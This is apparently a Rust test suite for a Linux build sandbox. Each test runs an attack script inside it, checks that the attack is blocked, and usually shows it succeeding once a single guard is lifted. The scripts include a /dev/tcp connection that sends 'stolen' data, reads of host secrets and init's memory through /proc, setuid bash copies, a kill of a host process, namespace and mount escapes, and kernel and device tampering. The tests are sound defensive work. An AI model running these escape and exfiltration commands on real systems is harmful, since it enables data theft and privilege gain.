//! The sandbox is closed: each attack gets nothing, and succeeds once its guard is switched off, which shows
//! that the guard is what stops it.

mod common;

use std::io::Read as _;
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt as _;
use std::time::Duration;

use common::{Scene, Seen, see};
use sandbox::{Bind, Guard, Outcome, Plan, Root};

#[test]
fn the_same_holds_for_an_ordinary_user() {
    common::again_as_ordinary_user("the_same_holds_for_an_ordinary_user");
}

/// A script for the host's own file system, with which no bind is made: it works on paths outside.
fn on_the_host(script: &str) -> Plan {
    let mut plan = Plan::new(Root::HostUnsafe, ["/bin/bash", "-c", script]);
    plan.environment.insert("PATH".to_owned(), "/usr/bin:/bin".to_owned());
    plan
}

fn lifted(plan: &Plan, guards: &[Guard]) -> Seen {
    let mut plan = plan.clone();
    for guard in guards {
        plan.lift_unsafe(*guard);
    }
    see(&plan)
}

#[test]
fn the_network_of_the_host_is_out_of_reach() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let scene = Scene::new();
    let plan = scene.plan(&format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo -n stolen >&3"));

    let seen = lifted(&plan, &[]);
    assert!(seen.output.contains("Connection refused"), "{}", seen.output);
    assert_eq!(lifted(&plan, &[Guard::Network]).outcome, Outcome::Exited(0));
    let mut sent = String::new();
    listener.accept().unwrap().0.read_to_string(&mut sent).unwrap();
    assert_eq!(sent, "stolen");
}

#[test]
fn no_other_network_is_there() {
    let seen = Scene::new().script("exec 3<>/dev/tcp/192.0.2.1/80");
    assert!(seen.output.contains("Network is unreachable"), "{}", seen.output);
}

#[test]
fn an_abstract_socket_of_the_host_is_out_of_reach() {
    use std::os::linux::net::SocketAddrExt as _;
    use std::os::unix::net::{SocketAddr, UnixListener};
    let name = format!("undistro-test-{}", std::process::id());
    let _listener = UnixListener::bind_addr(&SocketAddr::from_abstract_name(&name).unwrap()).unwrap();
    let scene = Scene::new();
    // The kernel lists the abstract sockets of a network namespace to all in it.
    let plan = scene.plan(&format!("grep -c @{name} /proc/net/unix"));
    assert_eq!(see(&plan).output, "0\n");
    assert_eq!(lifted(&plan, &[Guard::Network, Guard::Processes]).output, "1\n");
}

#[test]
fn a_file_of_the_host_can_not_be_read() {
    let scene = Scene::new();
    let secret = scene.path("outside/secret");
    fs_err::write(&secret, "the secret").unwrap();
    let read = format!("cat {0} /proc/1/root{0} /proc/1/cwd{0} ../../../../../../../../{0}", secret.display());

    let seen = scene.script(&read);
    assert_eq!(seen.outcome, Outcome::Exited(1));
    assert!(!seen.output.contains("the secret"), "{}", seen.output);
    let seen = see(&on_the_host(&format!("cat {}", secret.display())));
    assert_eq!(seen.good(), "the secret");
}

#[test]
fn no_path_of_the_host_shows_in_the_mount_table() {
    let scene = Scene::new();
    let seen = scene.script("cat /proc/self/mountinfo /proc/mounts /proc/1/mountinfo /proc/1/environ /proc/1/cmdline; true");
    let overlay: Vec<&str> = seen.good().lines().filter(|line| line.contains("overlay")).collect();
    assert!(!overlay.is_empty());
    for line in overlay {
        assert!(!line.contains(scene.home.path().to_str().unwrap()), "{line}");
    }
}

#[test]
fn a_file_outside_the_outputs_can_not_be_written() {
    let scene = Scene::new();
    let victim = scene.path("outside/victim");
    let write = format!("mkdir -p {0}; echo gotcha > {0}/victim; ls {0}", scene.path("outside").display());

    assert_eq!(scene.script(&write).good(), "victim", "the write goes to the scratch root, and is gone with it");
    assert!(!victim.exists());
    let seen = see(&on_the_host(&write));
    assert!(seen.output.contains("Permission denied"), "landlock alone stops it, too: {}", seen.output);
    assert!(!victim.exists());
    assert_eq!(lifted(&on_the_host(&write), &[Guard::Landlock]).good(), "victim");
    assert_eq!(fs_err::read_to_string(victim).unwrap(), "gotcha\n");
}

#[test]
fn a_read_only_bind_can_not_be_written() {
    let scene = Scene::new();
    let source = scene.path("source/file");
    fs_err::write(&source, "as it was").unwrap();
    let mut plan = scene.plan("echo gotcha > /source/file; mount -o remount,rw,bind /source; echo gotcha > /source/file");
    plan.binds.push(Bind { source: scene.path("source"), target: "/source".to_owned(), writable: false });

    assert_ne!(see(&plan).outcome, Outcome::Exited(0));
    assert_eq!(fs_err::read_to_string(&source).unwrap(), "as it was");
    assert_eq!(lifted(&plan, &[Guard::ReadOnlyBinds]).outcome, Outcome::Exited(0));
    assert_eq!(fs_err::read_to_string(&source).unwrap(), "gotcha\n");
}

#[test]
fn no_program_with_set_user_id_is_left_behind() {
    let scene = Scene::new();
    let program = scene.path("work/program");
    let mode = || fs_err::metadata(&program).unwrap().permissions().mode() & 0o7777;
    let plan = scene.plan("cp /bin/bash program && chmod 0755 program && chmod 6755 program");

    let seen = see(&plan);
    assert!(seen.output.contains("Operation not permitted"), "{}", seen.output);
    assert_eq!(mode(), 0o755);
    assert_eq!(lifted(&plan, &[Guard::SystemCalls]).outcome, Outcome::Exited(0));
    assert_eq!(mode(), 0o6755, "the attack works without the filter");
}

#[test]
fn set_user_id_bits_and_file_capabilities_give_nothing_inside() {
    let scene = Scene::new();
    fs_err::copy("/bin/bash", scene.path("work/program")).unwrap();
    fs_err::set_permissions(scene.path("work/program"), std::fs::Permissions::from_mode(0o6755)).unwrap();
    let seen = scene.script(
        "grep -E 'NoNewPrivs|Seccomp:|CapBnd' /proc/self/status; ./program -p -c 'grep CapEff /proc/self/status'; \
         grep -vc nosuid /proc/self/mountinfo",
    );
    // Nine capabilities over the one user and its own namespaces; none that makes devices, mounts or capabilities.
    let kept = "00000000000404fb";
    assert_eq!(seen.output, format!("CapBnd:\t{kept}\nNoNewPrivs:\t1\nSeccomp:\t2\nCapEff:\t{kept}\n0\n"));
}

#[test]
fn a_process_can_not_survive_the_build() {
    let scene = Scene::new();
    let survivor = scene.path("work/survivor");
    let plan = scene.plan("setsid bash -c '(sleep 0.5; echo alive > survivor) & disown' </dev/null >/dev/null 2>&1");
    let wait = Duration::from_millis(1200);

    assert_eq!(see(&plan).good(), "");
    std::thread::sleep(wait);
    assert!(!survivor.exists());
    assert_eq!(lifted(&plan, &[Guard::Processes]).good(), "");
    std::thread::sleep(wait);
    assert!(survivor.exists(), "the attack works without the guard");
}

#[test]
fn a_process_of_the_host_can_not_be_seen_or_signalled() {
    let scene = Scene::new();
    let mut victim = std::process::Command::new("sleep").arg("300").spawn().unwrap();
    let plan = scene.plan(&format!("kill -9 {}", victim.id()));

    assert!(see(&plan).output.contains("No such process"));
    // Landlock is the second lock.
    assert!(lifted(&plan, &[Guard::Processes]).output.contains("not permitted"));
    assert!(victim.try_wait().unwrap().is_none());
    assert_eq!(lifted(&plan, &[Guard::Processes, Guard::Landlock]).outcome, Outcome::Exited(0));
    assert_eq!(std::os::unix::process::ExitStatusExt::signal(&victim.wait().unwrap()), Some(9));
}

#[test]
fn no_namespace_and_no_mount_can_be_made() {
    let scene = Scene::new();
    for attack in [
        "unshare -U true",
        "unshare -m true",
        "unshare -n true",
        "unshare -T true",
        "mount -t tmpfs t /tmp",
        "umount /proc/sys",
        "umount -l /tmp",
    ] {
        let seen = scene.script(attack);
        assert_ne!(seen.outcome, Outcome::Exited(0), "{attack}");
        let refused = ["not permitted", "permission denied", "must be superuser"];
        assert!(refused.iter().any(|text| seen.output.contains(text)), "{attack}: {}", seen.output);
    }
    assert_eq!(lifted(&scene.plan("unshare -U true"), &[Guard::SystemCalls]).outcome, Outcome::Exited(0));
}

#[test]
fn the_kernel_can_not_be_set() {
    // For a caller that is root the file's own permissions would allow it; nothing is written, only opened.
    let seen = Scene::new().script(": >> /proc/sys/kernel/core_pattern; : >> /proc/sys/kernel/hostname");
    let refused = if common::is_root() { "Read-only file system" } else { "Permission denied" };
    assert_eq!(seen.output.matches(refused).count(), 2, "{}", seen.output);
}

#[test]
fn memory_and_files_of_init_are_closed() {
    let seen = Scene::new().script(
        "for path in exe cwd root fd/0 fd/4; do readlink /proc/1/$path; done; cat /proc/1/mem /proc/1/environ; \
         cat /proc/kcore /proc/kmsg 2>/dev/null | wc -c",
    );
    assert_eq!(seen.output.matches("Permission denied").count(), 2, "{}", seen.output);
    assert!(seen.output.starts_with("cat: /proc/1/mem"), "{}", seen.output);
    assert!(seen.output.ends_with("\n0\n"), "{}", seen.output);
}

#[test]
fn no_device_of_the_host_can_be_changed() {
    // It would change for the whole machine, were the caller root.
    let seen = Scene::new()
        .script("for device in null zero full random urandom tty; do chmod 0666 /dev/$device; done; chown 0 /dev/null; echo x > /dev/null");
    assert_eq!(seen.output.matches("Read-only file system").count(), 7, "{}", seen.output);
    assert_eq!(seen.outcome, Outcome::Exited(0));
}

#[test]
fn no_device_can_be_made() {
    let seen = Scene::new().script("mknod disk b 8 0; mknod /tmp/disk b 8 0; ls /tmp; mkfifo fifo; echo x > /dev/full");
    assert_eq!(seen.output.matches("not permitted").count(), 2, "{}", seen.output);
    assert!(seen.output.contains("No space left"), "{}", seen.output);
}
